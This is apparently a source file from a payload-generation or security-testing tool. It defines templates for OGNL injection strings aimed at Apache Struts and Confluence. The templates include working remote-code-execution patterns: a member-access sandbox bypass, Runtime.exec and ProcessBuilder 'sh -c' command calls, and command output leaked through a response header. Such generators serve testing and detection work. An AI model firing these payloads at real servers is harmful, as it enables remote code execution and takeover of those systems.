// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** OGNL of Struts and Confluence: contexts, member access, static calls. */
export const ognlExpression = templateGenerator({
  name: 'ognl-expression',
  engines: ['ognl'],
  rules: {
    start: [
      '%{l}{code}{r}',
      '${l}{code}{r}',
      '%{l}(#{letters:n}={string}).({code}){r}',
      "%{l}(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#context.setMemberAccess(#dm)))).({code}){r}",
      '${l}(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("{command}").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd",#a)){r}',
      'redirect:${l}{code}{r}',
      'action:%{l}{code}{r}',
      '${l}#context["xwork.MethodAccessor.denyMethodExecution"]=false,{code}{r}',
    ],
    string: ["'multipart/form-data'", "'{letters}'"],
    code: [
      "@java.lang.Runtime@getRuntime().exec('{command}')",
      '@java.lang.Runtime@getRuntime().exec("{command}")',
      "#cmd='{command}'",
      "#p=new java.lang.ProcessBuilder({l}'sh','-c','{command}'{r}),#p.start()",
      '@java.lang.System@getProperty("os.name")',
      '#_memberAccess.allowStaticMethodAccess=true',
      "#res=@org.apache.struts2.ServletActionContext@getResponse(),#res.getWriter().println('{letters}')",
      '@java.lang.Thread@sleep({number}0)',
      "#application.get('x').getClass().forName('java.lang.Runtime')",
      "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('{command}'))",
    ],
  },
});
